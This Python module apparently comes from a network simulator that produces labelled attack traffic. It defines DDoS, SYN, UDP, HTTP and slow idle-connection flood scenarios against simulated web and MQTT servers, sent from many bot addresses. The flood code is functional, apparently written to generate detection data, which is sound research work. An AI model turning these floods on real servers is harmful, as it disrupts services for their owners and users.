"""Many real machines against one, and connections by the hundred that are held and say nothing.

One that holds connections is a flood of the service's own kind.
"""
import contextlib, heapq, itertools, selectors, socket, struct, time

from . import raw, scenario, senders
from .floods import anybody, between, service
from .talk import either
from ..truth import ANY


def bots(scene):
    """The host they act from, and their addresses."""
    return scene.plan["botnet"], scene.bots(round(24 * 8 ** scene.dice.random()))


def talk(scene, sources, dst, port, rate, hold, words=lambda: b"", rude=0.5, limit=450):
    """Opens connections from such addresses, so many a second, says a word on each, holds it for about
    `hold` seconds, and ends the share `rude` of them by RST; how many were begun."""
    dice, waiting, watch, begun = scene.dice, [], selectors.DefaultSelector(), 0
    end, order = time.monotonic() + scene.seconds, itertools.count()
    with contextlib.ExitStack() as rest:
        rest.callback(lambda: [each.close() for _, _, each in waiting])
        due = time.monotonic()
        while (now := time.monotonic()) < end and not scene.over.is_set():
            while waiting and (waiting[0][0] <= now or len(waiting) >= limit):
                close(waiting, watch, dice.random() < rude)
            if now >= due:
                due += dice.expovariate(rate)
                one = begin(dice.choice(sources), dst, port)
                watch.register(one, selectors.EVENT_WRITE)
                heapq.heappush(waiting, (now + dice.expovariate(1 / hold), next(order), one))
                begun += 1
            for key, _ in watch.select(max(0, min(due - time.monotonic(), 0.05))):
                with contextlib.suppress(OSError):
                    if text := words():
                        key.fileobj.send(text)
                watch.unregister(key.fileobj)
    return begun


def begin(source, dst, port):
    one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    one.setblocking(False)
    one.bind((source, 0))
    with contextlib.suppress(BlockingIOError, ConnectionRefusedError):
        one.connect((dst, port))
    return one


def close(waiting, watch, rude):
    _, _, one = heapq.heappop(waiting)
    with contextlib.suppress(KeyError):
        watch.unregister(one)
    if rude:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    one.close()


def asking(dice):
    """A function that gives HTTP requests, each another."""
    agent = dice.choice(("Mozilla/5.0 (X11; Linux x86_64)", "python-requests/2.28.1", "Go-http-client/1.1",
                         "curl/7.88.1", "-"))
    length, more = dice.randint(3, 40), dice.choice(("", "Accept: */*\r\n", "Connection: keep-alive\r\n"))

    def words():
        query = "".join(dice.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(length))
        return f"GET /?{query} HTTP/1.1\r\nHost: portal\r\nUser-Agent: {agent}\r\n{more}\r\n".encode()
    return words


def strike(scene, port, victim, hold, words=lambda: b"", rude=0.5, rates=(60, 500)):
    host, sources = bots(scene)
    with scene.attack(ANY, victim.address, 6, port, tail=4):
        scene.call(host, talk, scene, sources, victim.address, port, between(scene, *rates), hold, words,
                   rude)


@scenario("ddos-connect", "DDOS", "dozens of machines connect to a server and let go")
def ddos_connect(scene):
    victim, port = service(scene)
    strike(scene, port, victim, 0.05 * 20 ** scene.dice.random(), rude=scene.dice.random())


@scenario("ddos-http", "DDOS", "dozens of machines ask a web server for pages")
def ddos_http(scene):
    strike(scene, 80, scene.host("records"), 0.1 * 10 ** scene.dice.random(), asking(scene.dice),
           rates=(60, 300))


@scenario("ddos-idle", "DDOS", "dozens of machines hold connections open and say nothing")
def ddos_idle(scene):
    victim, port = service(scene)
    strike(scene, port, victim, 30, rates=(40, 150))


@scenario("ddos-syn", "SYN_FLOOD", "dozens of machines send SYNs and answer nothing more")
def ddos_syn(scene):
    victim, port = service(scene)
    host, sources = bots(scene)
    with scene.attack(ANY, victim.address, 6, port, tail=4):
        senders.pour(scene, host, swarm(scene.dice, sources, lambda style, index, src: style.segment(
            index, scene.dice, src, victim.address, port, raw.SYN)), between(scene, 150, 1500))


@scenario("ddos-udp", "DDOS", "dozens of machines send datagrams")
def ddos_udp(scene):
    victim, dice = anybody(scene), scene.dice
    host, sources = bots(scene)
    port, size = dice.choice((53, 80, 443, dice.randint(1024, 65535))), senders.sizes(dice, 1, 1300)
    with scene.attack(ANY, victim.address, tail=2):
        senders.pour(scene, host, swarm(dice, sources, lambda style, index, src: style.datagram(
            index, dice, src, victim.address, port, dice.randbytes(size()))), between(scene, 300, 1900))


@scenario("ddos-mixed", "DDOS", "dozens of machines send SYNs, ACKs, datagrams, each its own")
def ddos_mixed(scene):
    (victim, port), dice = service(scene), scene.dice
    host, sources = bots(scene)
    parts = {src: (dice.choice(("udp", raw.SYN, raw.ACK, raw.SYN)), senders.sizes(dice, 1, 900))
             for src in sources}

    def shot(style, index, src):
        part, size = parts[src]
        if part == "udp":
            return style.datagram(index, dice, src, victim.address, port, dice.randbytes(size()))
        return style.segment(index, dice, src, victim.address, port, part)
    with scene.attack(ANY, victim.address, tail=4):
        senders.pour(scene, host, swarm(dice, sources, shot), between(scene, 200, 1500))


def swarm(dice, sources, shot):
    """Packets of many machines, each with a style of its own."""
    styles = {src: raw.Style.of(dice) for src in sources}
    for index in itertools.count():
        src = dice.choice(sources)
        yield shot(styles[src], index, src)


@scenario("idle-web", "HTTP_FLOOD", "one machine holds hundreds of connections to the web server")
def idle_web(scene):
    hold(scene, scene.host("records"), 80)


@scenario("idle-broker", "MQTT_FLOOD", "one machine holds hundreds of connections to the broker")
def idle_broker(scene):
    hold(scene, scene.host("broker"), 1883)


def hold(scene, victim, port):
    attacker = either(scene)
    with scene.attack(attacker.address, victim.address, 6, port, tail=4):
        scene.call(attacker, talk, scene, [attacker.address], victim.address, port, between(scene, 60, 300),
                   60, lambda: b"", scene.dice.random())
